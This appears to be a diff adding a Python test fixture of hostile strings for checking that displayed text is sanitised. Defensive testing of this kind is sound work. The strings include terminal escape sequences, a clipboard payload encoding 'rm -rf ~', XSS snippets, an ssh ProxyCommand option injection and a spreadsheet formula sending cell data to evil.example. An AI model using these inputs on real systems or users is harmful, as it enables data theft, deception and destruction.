@@ -1,0 +1,76 @@
+"""Texts written to harm a terminal, a screen or a parser: every place that shows text meets them.
+
+Each case is a name and a text. Shown anywhere, a case must leave no control character, no
+direction override and no live markup on the terminal, and must not stop or slow the program.
+"""
+
+from __future__ import annotations
+
+ESC = "\x1b"
+BEL = "\x07"
+ST = ESC + "\\"
+
+HOSTILE: tuple[tuple[str, str], ...] = (
+    ("window title", f"{ESC}]0;PWNED{BEL}good morning"),
+    ("icon title, string terminator", f"{ESC}]2;PWNED{ST}good morning"),
+    ("clipboard", f"{ESC}]52;c;cm0gLXJmIH4={BEL}copy me"),
+    ("hyperlink", f"{ESC}]8;;file:///etc/passwd{ST}click{ESC}]8;;{ST}"),
+    ("notification", f"{ESC}]777;notify;bank;call us{BEL}hello"),
+    ("unfinished title", f"{ESC}]0;everything after this is swallowed"),
+    ("clear screen", f"{ESC}[2J{ESC}[Hnothing to see"),
+    ("cursor over other panes", f"{ESC}[1;1H{ESC}[41mALERT: fire in the office{ESC}[0m"),
+    ("mouse mode", f"{ESC}[?1003h{ESC}[?1049l"),
+    ("device report", f"{ESC}[6n{ESC}[c{ESC}P$qm{ST}"),
+    ("device control string", f"{ESC}P1;2|payload{ST}after"),
+    ("privacy and application strings", f"{ESC}^private{ST}{ESC}_application{ST}{ESC}Xstart{ST}x"),
+    ("full reset", f"{ESC}c and a new charset {ESC}(0"),
+    ("one-byte control sequence", "\x9b2J\x9b31mred"),
+    ("one-byte title", "\x9d0;PWNED\x9cafter"),
+    ("one-byte device control", "\x90payload\x9cafter"),
+    ("nested sequences", f"{ESC}{ESC}[[2J{ESC}]0;{ESC}]0;x{BEL}{BEL}"),
+    ("sequence split by a zero width", f"{ESC}\u200b[2J{ESC}\u2060]0;PWNED{BEL}"),
+    ("lone escape at the end", f"goodbye{ESC}"),
+    ("long parameters", f"{ESC}[" + "1;" * 500 + "m done"),
+    ("null and friends", "a\x00b\x01c\x02d\x08\x08e\x0b\x0cf\x7fg"),
+    ("bell", "ring" + BEL * 50),
+    ("carriage return overwrites", "you owe us nothing\ryou owe us 1,000 euros"),
+    ("next line and separators", "one\x85two\u2028three\u2029four"),
+    ("tabs", "\t\ta\tb"),
+    ("right-to-left override", "invoice\u202efdp.exe"),
+    ("direction isolates", "\u2066\u2067\u2068never closed"),
+    ("direction marks", "\u200e\u200f\u061cmarked"),
+    ("zero width inside a word", "bra\u200bnd\u2060 na\ufeffme \u00adsoft"),
+    ("tag characters", "flag\U000e0067\U000e0062\U000e007f hidden\U000e0041"),
+    ("fillers", "\u115f\u1160\u3164\uffa0 blank"),
+    ("grapheme joiner", "a\u034fb\u034fc"),
+    ("lone joiners", "\u200d\u200d a\u200db \u200c"),
+    ("lone selectors", "\ufe0fa\ufe0f\ufe0f\ufe0e"),
+    ("piled marks", "Z" + "\u0300\u0323\u0488" * 3000 + "algo"),
+    ("marks before anything", "\u0301\u0301\u0301\u0301\u0301\u0301 start"),
+    ("unsorted marks", "a" + "\u0301\u0323" * 20_000),
+    ("lone surrogates", "a\ud800b\udfffc"),
+    ("non-characters", "a\ufffeb\uffffc\ufdd0d\U0001fffe"),
+    ("unassigned", "a\u0378b\U0003fff0c"),
+    ("annotations", "\ufff9base\ufffanote\ufffb"),
+    ("musical controls", "\U0001d173\U0001d17anotes\U0001bca0"),
+    ("closing tag", "x [/] y [/foo] z"),
+    ("click action", "[@click=app.quit]see the photo[/] [@click=app.simulate_key('d')]here[/]"),
+    ("markup link", "[link=javascript:alert(1)]terms[/link] [bold red blink]sale[/]"),
+    ("unclosed markup", "[bold [red] ]] [[ \\[ $name [$primary]"),
+    ("markup with an unknown style", "[not a style at all]vanishes[/not a style at all]"),
+    ("format fields", "{0} {name} {__class__} %s %(x)s ${HOME} $(id) `id`"),
+    ("html", "<script>alert(1)</script><img src=x onerror=alert(1)>&#27;]0;PWNED&#7;"),
+    ("markdown", "# big\n![x](http://tracker.example/p.png) [a](smb://host/share) ```"),
+    ("one word without end", "a" * 100_000),
+    ("lines without end", "\n" * 50_000),
+    ("wide without end", "漢" * 20_000),
+    ("spaces without end", " " * 100_000 + "end"),
+    ("joined emoji", "👩🏽‍💻👨‍👩‍👧‍👦🏳️‍🌈❤️‍🔥1️⃣🇫🇷" * 40),
+    ("changing widths", "👍🏽⚠️ℹ️ กำ ํา क्षि 한\u1100\u1161 ﷽"),
+    ("look-alike link", "https://аpple.com/login https://user:pw@bank.example@evil.example/"),
+    ("option for an opener", "-oProxyCommand=touch /tmp/x --remote-debugging-port=9222"),
+    ("formula", '=HYPERLINK("http://evil.example?x="&A1,"refund") +1 -1 @SUM(1)'),
+    ("right-to-left script", "שלום עליכם مرحبا بالعالم"),
+    ("empty", ""),
+    ("only invisible", "\u200b\u200d\u2060\ufeff\x00"),
+)
